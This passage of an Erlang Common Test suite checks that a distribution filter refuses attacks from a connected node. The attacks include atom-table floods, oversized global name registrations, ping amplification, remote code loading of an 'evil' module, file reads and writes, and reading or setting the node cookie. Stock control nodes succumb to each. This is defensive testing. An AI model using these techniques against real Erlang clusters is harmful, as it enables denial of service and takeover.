                                                 [maps:with([kernel_refc], SPids), SLinker]))],
                      ok = call(A, stop_linker, [SLinker, kill]),
                      Checks ++ [?CHECK({NS, link_exit_halts}, ok,
                                        ktls_ct_nodes:wait_until(fun() -> down(S) end, 10000))]
              end),
    verdict(Links ++ Exits ++ Apps ++ Healthy ++ Control).

%% Messages to an alias (ALIAS_SEND) of an application process on the
%% target: replies ({Tag, Value} and {[alias | Tag], Value} with a tag of
%% the target's, as a reply to a call it made) and plain application
%% messages arrive; OTP's request shapes ($gen_call, $gen_cast, system,
%% 'EXIT', 'DOWN', io_request, code_call) do not. The same shapes to the
%% process's pid and registered name arrive (it is no system process). To a
%% process whose group leader is the kernel application master (a system
%% process, standing in for one that gave its alias away in a call), by
%% pid and name only the replies; by alias no request shapes, and (the
%% stricter check) only the replies. A call the target makes to the
%% attacker gets its reply (through the caller's alias). Control: a stock
%% node and break glass take every shape.
alias_requests(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    Before = conn_ids([{T, NT}], NA),
    {Holder, Alias} = ktls_ct_nodes:call(T, ktls_attack_alias, start, [app]),
    {SysHolder, SysAlias} = ktls_ct_nodes:call(T, ktls_attack_alias, start, [system]),
    %% the filter learns of new system processes within a second
    timer:sleep(1500),
    Kinds = fun(Node, P, Dest, Tag) ->
                    Answers = call(A, alias_sends, [Dest, Tag]),
                    timer:sleep(300),
                    Got = ktls_ct_nodes:call(Node, ktls_attack_alias, received, [P]),
                    {lists:sort([alias_kind(M) || M <- Got]), Answers}
            end,
    Every = lists:sort(?ALIAS_KINDS),
    Target =
        phase(target,
              fun() ->
                      {ViaAlias, Answers} = Kinds(T, Holder, Alias, Alias),
                      ct:pal("answers to what was sent through the alias: ~p", [Answers]),
                      {ViaPid, _} = Kinds(T, Holder, Holder, Alias),
                      {ViaName, _} = Kinds(T, Holder, {ktls_attack_alias, NT}, Alias),
                      [?CHECK(via_alias_only_replies_and_app, [alias_reply, app, reply], ViaAlias),
                       ?CHECK(via_pid_all, Every, ViaPid),
                       ?CHECK(via_name_all, Every, ViaName),
                       ?CHECK(target_call_gets_reply, {ok, alias_reply},
                              safe_call(T, ?MODULE, echo_call, [NA, alias_reply]))]
              end),
    System =
        phase(system_holder,
              fun() ->
                      Master = ktls_ct_nodes:call(T, application_controller, get_master, [kernel]),
                      {ViaAlias, _} = Kinds(T, SysHolder, SysAlias, SysAlias),
                      {ViaPid, _} = Kinds(T, SysHolder, SysHolder, SysAlias),
                      {ViaName, _} = Kinds(T, SysHolder, {ktls_attack_alias_system, NT}, SysAlias),
                      [?CHECK(system_holder_group_leader, {group_leader, Master},
                              safe_call(T, erlang, process_info, [SysHolder, group_leader])),
                       ?CHECK(system_via_alias_no_requests, [], ViaAlias -- [alias_reply, app, reply]),
                       %% An alias carries no owner on the wire, so a plain
                       %% message (no OTP request shape) still reaches a
                       %% system process through one (DESIGN.md, "Aliases"):
                       %% the known limit, shown exactly.
                       ?CHECK(system_via_alias_plain_message, [alias_reply, app, reply],
                              lists:sort(ViaAlias)),
                       ?CHECK(system_via_pid_only_replies, [alias_reply, reply], ViaPid),
                       ?CHECK(system_via_name_only_replies, [alias_reply, reply], ViaName)]
              end),
    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
    %% Control: a stock node, then break glass on the target.
    Control =
        phase(control,
              fun() ->
                      {S, NS} = stock(),
                      connect(A, NS),
                      {SHolder, SAlias} = ktls_ct_nodes:call(S, ktls_attack_alias, start, [app]),
                      {SSysHolder, SSysAlias} = ktls_ct_nodes:call(S, ktls_attack_alias, start, [system]),
                      {StockAlias, _} = Kinds(S, SHolder, SAlias, SAlias),
                      {StockSysAlias, _} = Kinds(S, SSysHolder, SSysAlias, SSysAlias),
                      ok = ktls_ct_nodes:call(T, ktls_filter, config_set, [deep_packet_inspection, false]),
                      {GlassAlias, _} = Kinds(T, Holder, Alias, Alias),
                      {GlassSysPid, _} = Kinds(T, SysHolder, SysHolder, SysAlias),
                      [?CHECK({NS, via_alias_all}, Every, StockAlias),
                       ?CHECK({NS, system_via_alias_all}, Every, StockSysAlias),
                       ?CHECK(break_glass_via_alias_all, Every, GlassAlias),
                       ?CHECK(break_glass_system_via_pid_all, Every, GlassSysPid)]
              end),
    verdict(Target ++ System ++ Healthy ++ Control).

%% Atom table exhaustion: an attacker with a large atom table (+t 4000000)
%% sends 1.1 million atoms the target does not have, 10,000 a message, to
%% an application process. The target takes at most
%% max_new_atoms_per_connection (default 100,000) of them and stays up on
%% the same connection. With max_new_atoms_per_connection 1000 and
%% max_new_atoms 1500 set at run time on another target, 100 atoms a
%% message: one attacker gets 1000 atoms in, a second one what is left of
%% the node's budget (500); the first still does its legitimate workload
%% (atoms the target has). Control: a stock node with +t 200000 dies of
%% the same flood.
atom_flood(Config) ->
    _ = Config,
    NoDump = ?NO_DUMP,
    {T, NT} = node_of(name("target"), ktls, ?GLOBAL ++ NoDump),
    {A, NA} = node_of(name("attacker"), inet_tcp, ?GLOBAL ++ ["+t", "4000000"]),
    connect(A, NT),
    Before = conn_ids([{T, NT}], NA),
    Default =
        phase(default_budget,
              fun() ->
                      Atoms0 = atom_count(T),
                      Flood = call(A, atom_flood, [NT, "ktls_atk_", 0, 1100000, 10000]),
                      ct:pal("flood: ~p", [Flood]),
                      Got = safe_call(T, ?MODULE, existing_atoms, ["ktls_atk_", 0, 1100000]),
                      Growth = safe(fun() -> atom_count(T) - Atoms0 end),
                      [?CHECK(target_up, NT, safe_call(T, erlang, node, [])),
                       chk(at_most_budget, Got, is_integer(Got) andalso Got =< 100000),
                       chk(up_to_budget, Got, is_integer(Got) andalso Got >= 90000),
                       chk(atom_count_growth, Growth, is_integer(Growth) andalso Growth =< 100000 + 5000),
                       ?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
              end),
    %% Small budgets, set at run time, on a target in a cluster of its own:
    %% A's budget on T is spent, and global's lock messages from A to T
    %% that name a node T does not know yet are refused with it, which
    %% would stall global's sync with any new node of A's cluster.
    Small =
        phase(small_budget,
              fun() ->
                      {T2, NT2} = node_of(name("target"), ktls, ?GLOBAL ++ NoDump),
                      Set = [safe_call(T2, ktls_filter, config_set, [K, V])
                             || {K, V} <- [{max_new_atoms_per_connection, 1000}, {max_new_atoms, 1500}]],
                      {A3, NA3} = node_of(name("attacker"), inet_tcp, ?GLOBAL),
                      connect(A3, NT2),
                      Before2 = conn_ids([{T2, NT2}], NA3),
                      Member = call(A3, pg_member, []),
                      Synced = ktls_ct_nodes:wait_until(
                                 fun() ->
                                         ktls_ct_nodes:call(T2, global, whereis_name, [{ktls_attack, NA3}])
                                             =:= Member
                                 end, 10000),
                      Atoms2 = atom_count(T2),
                      _ = call(A3, atom_flood, [NT2, "ktls_atk_small_", 0, 3000, 100]),
                      Got1 = safe_call(T2, ?MODULE, existing_atoms, ["ktls_atk_small_", 0, 3000]),
                      {A2, NA2} = node_of(name("attacker"), inet_tcp, []),
                      connect(A2, NT2),
                      Before3 = conn_ids([{T2, NT2}], NA2),
                      _ = call(A2, atom_flood, [NT2, "ktls_atk_second_", 0, 3000, 100]),
                      Got2 = safe_call(T2, ?MODULE, existing_atoms, ["ktls_atk_second_", 0, 3000]),
                      Growth2 = safe(fun() -> atom_count(T2) - Atoms2 end),
                      [?CHECK(config_set, [ok, ok], Set),
                       ?CHECK(global_sync_before_flood, ok, Synced),
                       chk(per_connection_budget, Got1,
                           is_integer(Got1) andalso Got1 =< 1000 andalso Got1 >= 800),
                       chk(node_budget, Got2, is_integer(Got2) andalso Got2 =< 500 andalso Got2 >= 300),
                       chk(atom_count_growth_small, Growth2,
                           is_integer(Growth2) andalso Growth2 =< 1500 + 200),
                       chk(second_attacker_connection_kept, Before3,
                           Before3 =:= safe(fun() -> conn_ids([{T2, NT2}], NA2) end)),
                       ?CHECK(healthy_target2, ok, safe(fun() -> healthy(T2, NT2, A3, NA3, Before2) end))]
              end),
    %% Control: a stock node with a small atom table.
    Control =
        phase(control,
              fun() ->
                      {S, NS} = stock(["+t", "200000" | NoDump]),
                      connect(A, NS),
                      _ = call(A, atom_flood, [NS, "ktls_atk_stock_", 0, 400000, 10000]),
                      [?CHECK({NS, stock_dies}, ok, ktls_ct_nodes:wait_until(fun() -> down(S) end, 20000))]
              end),
    verdict(Default ++ Small ++ Control).

%% Names of 64 MiB registered with global on the target: a raw
%% {register, Name, Pid, Method} call to global_name_server by name, by pid
%% and by forged pid, the same through gen_server:multi_call (the form
%% global itself uses, whose From tag is {Ref, Node}), and
%% global:register_name/2. Over
%% max_global_message_size (1 MiB): none gets stored, every call is
%% answered at once, memory stays bounded. Control: a stock node stores
%% them.
global_resources(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    Before = conn_ids([{T, NT}], NA),
    ok = call(T, start_sampler, []),
    Raw =
        phase(raw_calls,
              fun() ->
                      GPid = ktls_ct_nodes:call(T, erlang, whereis, [global_name_server]),
                      R = call(A, global_big_names, [NT, GPid, pid_numbers(GPid), 64]),
                      ct:pal("raw registrations: ~p", [R]),
                      [?CHECK(by_name_refused, {ok, {error, unauthorized}}, maps:get(by_name, R)),
                       ?CHECK(by_pid_refused, {ok, {error, unauthorized}}, maps:get(by_pid, R)),
                       ?CHECK(forged_pid_match, GPid, maps:get(forged_pid, R)),
                       ?CHECK(by_forged_refused, {ok, {error, unauthorized}}, maps:get(by_forged, R)),
                       ?CHECK(multi_call_answered, {ok, {[{NT, {error, unauthorized}}], []}},
                              maps:get(multi_call, R)),
                       ?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
              end),
    Register =
        phase(register_name,
              fun() ->
                      R = call(A, global_register_big, [64]),
                      timer:sleep(500),
                      Bin = safe_call(T, erlang, memory, [binary]),
                      Peak = safe_call(T, ?MODULE, sampler_peak, []),
                      ct:pal("global:register_name: ~p; target binary memory ~p, peak total ~p",
                             [R, Bin, Peak]),
                      [?CHECK(register_name_answered, {ok, _}, R),
                       ?CHECK(no_big_names, [], safe_call(T, ?MODULE, big_global_names, [])),
                       chk(binary_memory_bounded, Bin, is_integer(Bin) andalso Bin < 32 * ?MIB),
                       ?CHECK(healthy_target_after, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))]
              end),
    %% Control: a stock node.
    Control =
        phase(control,
              fun() ->
                      {S, NS} = stock(),
                      connect(A, NS),
                      SPid = ktls_ct_nodes:call(S, erlang, whereis, [global_name_server]),
                      R = call(A, global_big_names, [NS, SPid, pid_numbers(SPid), 64]),
                      SBin = safe_call(S, erlang, memory, [binary]),
                      [?CHECK({NS, registered},
                              #{by_name := {ok, yes}, by_pid := {ok, yes}, by_forged := {ok, yes},
                                multi_call := {ok, {[{NS, yes}], []}}}, R),
                       ?CHECK({NS, big_names}, [1, 2, 3, 4], safe_call(S, ?MODULE, big_global_names, [])),
                       chk({NS, binary_memory}, SBin, is_integer(SBin) andalso SBin > 128 * ?MIB)]
              end),
    verdict(Raw ++ Register ++ Control).

%% net_adm:ping/1 run on the target for the attacker (erpc, rpc, spawn),
%% of a third node and of twenty nodes that do not exist: refused, the
%% target connects nowhere and starts no processes; erlang:node/0 stays
%% allowed. Control: a stock node pings the node it is told to.
ping_amplifier(Config) ->
    _ = Config,
    {[{T, NT}], {A, NA}} = cluster(1),
    {S, NS} = stock(),
    connect(A, NS),
    Before = conn_ids([{T, NT}], NA),
    Refused = {exit, {exception, unauthorized}},
    Target =
        phase(target,
              fun() ->
                      Procs0 = ktls_ct_nodes:call(T, erlang, system_info, [process_count]),
                      R = call(A, ping_attacks, [NT, NS, 20]),
                      ct:pal("ping attacks: ~p", [R]),
                      timer:sleep(1000),
                      Procs = safe_call(T, erlang, system_info, [process_count]),
                      Nodes = safe_call(T, erlang, nodes, []),
                      [?CHECK(erpc_refused, Refused, maps:get(erpc, R)),
                       ?CHECK(rpc_refused, {ok, {badrpc, {'EXIT', unauthorized}}}, maps:get(rpc, R)),
                       ?CHECK(spawn_refused, {ok, unauthorized}, maps:get(spawn, R)),
                       chk(nobody_refused, maps:get(nobody, R),
                           lists:all(fun(X) -> X =:= Refused end, maps:get(nobody, R))),
                       ?CHECK(node_allowed, {ok, NT}, maps:get(node, R)),
                       chk(no_connection_to_third, Nodes, is_list(Nodes) andalso not member(NS, Nodes)),
                       chk(no_process_growth, {Procs0, Procs}, is_integer(Procs) andalso Procs =< Procs0 + 5)]
              end),
    Healthy = [?CHECK(healthy_target, ok, safe(fun() -> healthy(T, NT, A, NA, Before) end))],
    %% Control: a stock node.
    Control =
        phase(control,
              fun() ->
                      [?CHECK({NS, ping_works}, {ok, pong}, call(A, try_erpc, [NS, net_adm, ping, [NT]])),
                       chk({NS, connected_to_target}, NT, member(NT, safe_call(S, erlang, nodes, [])))]
              end),
    verdict(Target ++ Healthy ++ Control).

%% ------------------------------------------------------------------
%% Checks (test runner side)
%% ------------------------------------------------------------------

%% Alive, still connected over the same dist channel, memory bounded, and
%% the legitimate workload works from the attacker over that channel.
healthy(T, NT, A, NA, Before) ->
    ?assertEqual(NT, ktls_ct_nodes:call(T, erlang, node, [])),
    ?assert(lists:member(NA, ktls_ct_nodes:call(T, erlang, nodes, []))),
    ?assertEqual(maps:get(NT, Before), conn_id(T, NA)),
    ?assert(ktls_ct_nodes:call(T, erlang, memory, [total]) < 200 * ?MIB),
    ok = call(A, legit_workload, [NT]),
    Member = call(A, pg_member, []),
    ok = ktls_ct_nodes:wait_until(
           fun() ->
                   lists:member(Member, ktls_ct_nodes:call(T, pg, get_members,
                                                           [ktls_attack_pg, legit]))
           end, 5000),
    ok = ktls_ct_nodes:wait_until(
           fun() -> ktls_ct_nodes:call(T, global, whereis_name, [{ktls_attack, NA}]) =:= Member
           end, 5000),
    ?assertEqual(maps:get(NT, Before), conn_id(T, NA)).

%% Each erpc-style attack on each node: refused with an error, fast.
check_erpc_refused(#{multicall := MC, call := Calls, rpc_call := Rpcs,
                     spawn_monitor := Downs, spawn_link := Exits}, N) ->
    ?assertEqual(lists:duplicate(N, {exit, {exception, unauthorized}}), MC),
    ?assertEqual(lists:duplicate(N, {exit, {exception, unauthorized}}), Calls),
    ?assertEqual(lists:duplicate(N, {badrpc, {'EXIT', unauthorized}}), Rpcs),
    ?assertEqual(lists:duplicate(N, unauthorized), Downs),
    ?assertEqual(lists:duplicate(N, unauthorized), Exits).

%% The connection ids of NA's channels on Targets, once the targets have
%% them (connect/2 may return before the target has registered its end).
conn_ids(Targets, NA) ->
    [ok = ktls_ct_nodes:wait_until(
            fun() -> is_map(ktls_ct_nodes:call(T, ktls_filter, channel_inspect, [NA])) end, 5000)
     || {T, _} <- Targets],
    maps:from_list([{N, conn_id(T, NA)} || {T, N} <- Targets]).

conn_id(T, NA) ->
    #{id := Id} = ktls_ct_nodes:call(T, ktls_filter, channel_inspect, [NA]),
    Id.

world(T) -> ktls_ct_nodes:call(T, ktls_filter, world_stats_get, []).

refused(T) -> maps:get(spawn_requests_refused, world(T)).

child_pid(T, Sup, Id) ->
    case lists:keyfind(Id, 1, ktls_ct_nodes:call(T, supervisor, which_children, [Sup])) of
        {Id, Pid, _, _} when is_pid(Pid) -> Pid;
        _ -> undefined
    end.

io_server(P) ->
    ktls_ct_nodes:call(P, erlang, whereis, [ktls_attack_io]).

marked(Dir, Node) ->
    lists:any(fun(F) -> lists:suffix("@" ++ atom_to_list(Node), F) end, markers(Dir)).

markers(Dir) ->
    {ok, Fs} = file:list_dir(Dir),
    lists:sort(Fs).

down(Peer) ->
    case catch peer:get_state(Peer) of
        running -> false;
        _ -> true
    end.

%% A module no node has: the code the attacker wants loaded.
evil_module() ->
    evil_module(ktls_attack_evil).

%% The same under the name evil_name(How).
evil_module_for(How) ->
    evil_module(evil_name(How)).

evil_module(Name) ->
    Forms = [{attribute, 1, module, Name},
             {attribute, 2, export, [{evil, 0}]},
             {function, 3, evil, 0, [{clause, 3, [], [], [{atom, 3, loaded}]}]}],
    {ok, Name, Bin} = compile:forms(Forms, []),
    {Name, Bin}.

evil_name(How) -> list_to_atom("ktls_attack_evil_" ++ atom_to_list(How)).

%% The host name and address pid_bypass/1 adds to inet_db's hosts table
%% (one address each: adding a name to an address replaces its names).
evil_host(How) -> "ktls-evil-" ++ atom_to_list(How) ++ ".example".

evil_ip(name) -> {10, 66, 6, 1};
evil_ip(pid) -> {10, 66, 6, 2};
evil_ip(forged) -> {10, 66, 6, 3}.

%% What system_attacks/5 needs to address the processes of Pids (name =>
%% pid, read on the target): the pids themselves, or for forged ones their
%% numbers (init as <0.0.0>: the attacker does not need to have seen it).
dest_info(forged, Pids) ->
    (maps:map(fun(_, P) -> pid_numbers(P) end, Pids))#{init => {0, 0}};
dest_info(_, Pids) ->
    Pids.

%% {Id, Serial} of a pid: "<N.Id.Serial>".
pid_numbers(Pid) ->
    [_, Id, Serial] = string:lexemes(pid_to_list(Pid), "<.>"),
    {list_to_integer(Id), list_to_integer(Serial)}.

%% Every attack of system_attacks/5 refused: the calls answered
%% {error, unauthorized} (sys calls may exit with it instead), code_server
%% and init silent.
refused_checks(Node, How, R) ->
    [chk({Node, How, K}, maps:get(K, R), refused_call(maps:get(K, R)))
     || K <- [write_file, read_file, set_env, which_applications, get_cookie, set_cookie, add_host,
              which_children, terminate_child, restart_child, delete_child, get_status, suspend,
              add_handler, which_handlers]] ++
        [?CHECK({Node, How, code_load}, {ok, no_reply}, maps:get(code_load, R)),
         ?CHECK({Node, How, init_get_arguments}, {ok, no_reply}, maps:get(init_get_arguments, R))].

refused_call({ok, {error, unauthorized}}) -> true;
refused_call({exit, {unauthorized, _}}) -> true;
refused_call(_) -> false.

%% Every attack of system_attacks/5 done, on a stock node.
stock_checks(Node, How, R) ->
    G = fun(K) -> maps:get(K, R) end,
    [?CHECK({Node, How, write_file}, {ok, ok}, G(write_file)),
     ?CHECK({Node, How, read_file}, {ok, {ok, _}}, G(read_file)),
     ?CHECK({Node, How, code_load}, {ok, {reply, {module, _}}}, G(code_load)),
     ?CHECK({Node, How, set_env}, {ok, ok}, G(set_env)),
     ?CHECK({Node, How, which_applications}, {ok, [_ | _]}, G(which_applications)),
     chk({Node, How, get_cookie}, G(get_cookie),
         case G(get_cookie) of {ok, C} -> is_atom(C); _ -> false end),
     ?CHECK({Node, How, set_cookie}, {ok, true}, G(set_cookie)),
     ?CHECK({Node, How, add_host}, {ok, ok}, G(add_host)),
     ?CHECK({Node, How, which_children}, {ok, [_ | _]}, G(which_children)),
     ?CHECK({Node, How, terminate_child}, {ok, ok}, G(terminate_child)),
     ?CHECK({Node, How, restart_child}, {ok, {ok, _}}, G(restart_child)),
     ?CHECK({Node, How, delete_child}, {ok, {error, running}}, G(delete_child)),
     ?CHECK({Node, How, get_status}, {ok, {status, _, _, _}}, G(get_status)),
     ?CHECK({Node, How, suspend}, {ok, ok}, G(suspend)),
     chk({Node, How, add_handler}, G(add_handler),
         lists:member(G(add_handler), [{ok, ok}, {ok, {'EXIT', already_present}}])),
     ?CHECK({Node, How, which_handlers}, {ok, [_ | _]}, G(which_handlers)),
     ?CHECK({Node, How, init_get_arguments}, {ok, {reply, [_ | _]}}, G(init_get_arguments))].

%% The kind of a message alias_sends/1 sent (?ALIAS_KINDS).
alias_kind({'$gen_call', {_, [alias | _]}, _}) -> gen_call_alias;
alias_kind({'$gen_call', _, _}) -> gen_call;
alias_kind({'$gen_cast', _}) -> gen_cast;
alias_kind({system, _, _}) -> system;
alias_kind({'EXIT', _, _}) -> exit;
alias_kind({'DOWN', _, _, _, _}) -> down;
alias_kind({io_request, _, _, _}) -> io_request;
alias_kind({code_call, _, _}) -> code_call;
alias_kind({ktls_alias, hello}) -> app;
alias_kind({Ref, _}) when is_reference(Ref) -> reply;
alias_kind({[alias | _], _}) -> alias_reply;
alias_kind(Other) -> {other, Other}.

atom_count(P) -> ktls_ct_nodes:call(P, erlang, system_info, [atom_count]).

%% [{Key, Before, After}] of the keys whose values differ (After not a
%% map: [{all, After}]).
map_diff(M0, M1) when is_map(M1) ->
    [{K, V, maps:get(K, M1, missing)} || {K, V} <- lists:sort(maps:to_list(M0)),
                                         maps:get(K, M1, missing) =/= V] ++
        [{K, missing, V} || {K, V} <- lists:sort(maps:to_list(M1)), not maps:is_key(K, M0)];
map_diff(_, Other) ->
    [{all, Other}].

member(X, L) when is_list(L) -> lists:member(X, L);
member(_, _) -> false.

chk(Name, Actual, Ok) when is_boolean(Ok) -> {Name, Actual, Ok}.

%% Fun's value, or {Class, Reason, Where} if it failed (Where: the frame
%% of this module it failed in, if any).
safe(Fun) ->
    try Fun()
    catch Class:Reason:Stack ->
            {Class, Reason, [{F, A, proplists:get_value(line, L)} || {?MODULE, F, A, L} <- Stack]}
    end.

safe_call(P, M, F, A) -> safe(fun() -> ktls_ct_nodes:call(P, M, F, A, 15000) end).

%% The checks Fun returns, or one failed check named Name if it crashed.
phase(Name, Fun) ->
    try Fun()
    catch Class:Reason:Stack -> [{{phase, Name}, {Class, Reason, Stack}, false}]
    end.

%% Logs every check (PASS/FAIL) and fails the case naming the failed ones.
verdict(Checks) ->
    Lines = [io_lib:format("~s ~p: ~P~n", [case Ok of true -> "PASS"; false -> "FAIL" end,
                                           Name, Actual, 16])
             || {Name, Actual, Ok} <- Checks],
    ct:pal("~s", [Lines]),
    case [Name || {Name, _, false} <- Checks] of
        [] -> ok;
        Failed -> ct:fail({failed_checks, Failed})
    end.

%% ------------------------------------------------------------------
%% Nodes
%% ------------------------------------------------------------------

%% N ktls_filter targets (default policy) connected to each other, and a
%% stock attacker connected to each. global keeps names in sync between
%% them (it does nothing under the "-connect_all false" of ktls_ct_nodes,
%% the application parameter overrides that).
cluster(N) ->
    Targets = [node_of(name("target"), ktls, ?GLOBAL) || _ <- lists:seq(1, N)],
    [connect(P, Node) || {P, _} <- Targets, {_, Node} <- Targets, P =/= first(Targets, Node)],
    A = {AP, _} = node_of(name("attacker"), inet_tcp, ?GLOBAL),
    [connect(AP, Node) || {_, Node} <- Targets],
    {Targets, A}.

first(Targets, Node) ->
    {P, Node} = lists:keyfind(Node, 2, Targets),
    P.

stock() -> stock([]).

%% A stock node with extra VM arguments.
stock(Extra) -> node_of(name("stock"), inet_tcp, Extra).

%% Node names other suites running at the same time on this machine do not
%% use (the OS pid of the test runner in them).
name(Role) -> ktls_ct_nodes:unique("atk_" ++ Role ++ "_" ++ os:getpid()).

node_of(Name, Carrier, Extra) ->
    {P, N} = ktls_ct_nodes:start(Name, Carrier, Extra),
    ok = ktls_ct_nodes:track(P),
    ok = call(P, setup_node, []),
    {P, N}.

connect(P, Node) ->
    true = ktls_ct_nodes:call(P, net_kernel, connect_node, [Node]).

call(P, F, Args) -> ktls_ct_nodes:call(P, ?MODULE, F, Args).

%% ------------------------------------------------------------------
%% On the nodes
%% ------------------------------------------------------------------

%% @doc Application processes every node of the suite runs: the server, an
%% io server and a pg scope.
-spec setup_node() -> ok.
setup_node() ->
    ok = ktls_attack_server:start(),
    _ = ktls_attack_io:start(),
    {ok, _} = pg:start(ktls_attack_pg),
    {ok, _} = gen_event:start({local, ktls_attack_events}),
    ok = logger:add_handler(ktls_attack_log, ktls_attack_log_h, #{}).

%% @doc The side effect every attack fun has first: a file named after the
%% node it runs on.
-spec mark(file:filename(), atom()) -> ok.
mark(Dir, What) ->
    ok = file:write_file(filename:join(Dir, atom_to_list(What) ++ "@" ++ atom_to_list(node())),
                         <<>>).

%% @doc What ordinary OTP traffic from this node to Node does: ping, gen_server
%% calls, casts and replies through aliases, monitors, links and exits of
%% processes there, messages carrying pids, references and funs, a message
%% to a pid, erpc and rpc of an allowed MFA, io:format to a group leader
%% there, log events for logger_proxy there. Crashes on the first thing
%% that does not work.
-spec legit_workload(node()) -> ok.
legit_workload(Node) ->
    {ok, R} = bounded(fun() -> legit(Node) end, 20000),
    R.

legit(Node) ->
    pong = net_adm:ping(Node),
    Server = {ktls_attack_server, Node},
    Data = {self(), make_ref(), fun() -> local_fun end, fun lists:reverse/1, <<"bin">>,
            #{key => [1.5, "str", {tuple}]}},
    Data = gen_server:call(Server, {echo, Data}, 5000),
    ok = gen_server:cast(Server, {put, data, Data}),
    Data = gen_server:call(Server, {get, data}, 5000),
    %% an application request that looks like start_child but names no code
    #{id := pool} = gen_server:call(Server, {start_child, #{id => pool}}, 5000),
    %% a message to a pid and the answer to ours
    ServerPid = gen_server:call(Server, self_pid, 5000),
    Ref = make_ref(),
    ServerPid ! {ping, self(), Ref},
    receive {pong, Ref} -> ok after 5000 -> error(no_pong) end,
    %% monitors, links, exits
    process_flag(trap_exit, true),
    Child1 = gen_server:call(Server, spawn_child, 5000),
    M1 = monitor(process, Child1),
    true = link(Child1),
    Child1 ! {exit, {shutdown, legit}},
    receive {'DOWN', M1, process, Child1, {shutdown, legit}} -> ok after 5000 -> error(no_down) end,
    receive {'EXIT', Child1, {shutdown, legit}} -> ok after 5000 -> error(no_exit) end,
    Child2 = gen_server:call(Server, spawn_child, 5000),
    M2 = monitor(process, Child2),
    true = exit(Child2, kill),
    receive {'DOWN', M2, process, Child2, killed} -> ok after 5000 -> error(no_kill) end,
    Child3 = gen_server:call(Server, spawn_child, 5000),
    M3 = monitor(process, Child3),
    true = demonitor(M3, [flush]),
    Child3 ! {exit, normal},
    %% erpc and rpc of an allowed MFA
    Node = erpc:call(Node, erlang, node, [], 5000),
    Node = rpc:call(Node, erlang, node, [], 5000),
    %% io:format to a group leader there
    ok = io_legit(Node),
    %% log events of a process here whose group leader is there go to
    %% logger_proxy there, with OTP's report formatter as report_cb
    Io = gen_server:call(Server, {whereis, ktls_attack_io}, 5000),
    Tags = [make_ref(), make_ref()],
    spawn(fun() ->
                  group_leader(Io, self()),
                  logger:notice(#{ktls_legit => hd(Tags), empty => #{}}),
                  logger:notice(#{label => {ktls, legit}, report => [{ktls_legit, lists:last(Tags)}]},
                                #{report_cb => fun logger:format_otp_report/1})
          end),
    ok = ktls_ct_nodes:wait_until(
           fun() -> [gen_server:call(Server, {get, {logged, Tag}}) || Tag <- Tags] =:= [true, true]
           end, 5000),
    ok.

%% @doc io:format/3 and io:put_chars/2 to the io server on Node; checks the text
%% arrived.
-spec io_legit(node()) -> ok.
io_legit(Node) ->
    Io = gen_server:call({ktls_attack_server, Node}, {whereis, ktls_attack_io}, 5000),
    Tag = integer_to_list(erlang:unique_integer([positive])),
    ok = io:format(Io, "legit ~s ~p~n", [Tag, {fun() -> ok end, self()}]),
    ok = io:put_chars(Io, ["chars ", Tag]),
    %% what the shell asks its group leader for (an export fun of erl_scan
    %% in the options): reaches the io server, which does not read
    {error, request} =
        io:request(Io, {get_until, unicode, "1> ", erl_scan, tokens,
                        [{1, 1}, [text, {reserved_word_fun, fun erl_scan:reserved_word/1}]]}),
    Out = ktls_attack_io:output(Io),
    true = binary:match(Out, list_to_binary("legit " ++ Tag)) =/= nomatch,
    true = binary:match(Out, list_to_binary("chars " ++ Tag)) =/= nomatch,
    ok.

%% @doc A process of this node in pg group `legit' of scope ktls_attack_pg
%% and globally registered as {ktls_attack, node()} (started once).
-spec pg_member() -> pid().
pg_member() ->
    case whereis(ktls_attack_member) of
        undefined ->
            Parent = self(),
            Pid = spawn(fun() ->
                                true = register(ktls_attack_member, self()),
                                ok = pg:join(ktls_attack_pg, legit, self()),
                                yes = global:register_name({ktls_attack, node()}, self()),
                                Parent ! {joined, self()},
                                receive stop -> ok end
                        end),
            receive {joined, Pid} -> Pid after 5000 -> error(pg_join) end;
        Pid ->
            Pid
    end.

%% @doc Runs Fun in a fresh process: {ok, Result}, {exit, Reason} if it
%% failed, or hung if it took longer than Ms (then it is killed).
-spec bounded(fun(() -> term()), timeout()) -> {ok, term()} | {exit, term()} | hung.
bounded(Fun, Ms) ->
    {Pid, MRef} = spawn_monitor(fun() -> exit({done, Fun()}) end),
    receive
        {'DOWN', MRef, process, Pid, {done, R}} -> {ok, R};
        {'DOWN', MRef, process, Pid, Reason} -> {exit, Reason}
    after Ms ->
            exit(Pid, kill),
            hung
    end.

-spec try_erpc(node(), module(), atom(), list()) -> {ok, term()} | {atom(), term()}.
try_erpc(Node, M, F, A) ->
    try {ok, erpc:call(Node, M, F, A, ?FAST_MS)}
    catch Class:Reason -> {Class, Reason}
    end.

%% @doc The attack fun named by Which (see attack_fun/2), applied to itself.
-spec multicast_fun(atom() | tuple(), file:filename(), [node()]) -> ok.
multicast_fun(Which, Dir, Nodes) ->
    F = attack_fun(Which, Dir),
    erpc:multicast(Nodes, erlang, apply, [F, [F]]).

%% @doc The attack fun through every erpc-style way to run a fun remotely;
%% each must end fast with the caller told (timeout infinity: a dropped
%% request would hang, and bounded/2 reports that as hung).
-spec erpc_attacks(atom() | tuple(), file:filename(), [node()]) -> map().
erpc_attacks(Which, Dir, Nodes) ->
    F = attack_fun(Which, Dir),
    Fast = fun(G) ->
                   case bounded(G, ?FAST_MS) of
                       {ok, R} -> R;
                       Other -> Other
                   end
           end,
    #{multicall => Fast(fun() -> erpc:multicall(Nodes, erlang, apply, [F, [F]]) end),
      call => [Fast(fun() ->
                            try erpc:call(N, fun() -> F(F) end)
                            catch C:R -> {C, R}
                            end
                    end) || N <- Nodes],
      rpc_call => [Fast(fun() -> rpc:call(N, erlang, apply, [F, [F]]) end) || N <- Nodes],
      spawn_monitor => [Fast(fun() ->
                                     {P, M} = spawn_monitor(N, erlang, apply, [F, [F]]),
                                     receive {'DOWN', M, process, P, Why} -> Why end
                             end) || N <- Nodes],
      spawn_link => [Fast(fun() ->
                                  process_flag(trap_exit, true),
                                  P = spawn_link(N, fun() -> F(F) end),
                                  receive {'EXIT', P, Why} -> Why end
                          end) || N <- Nodes]}.

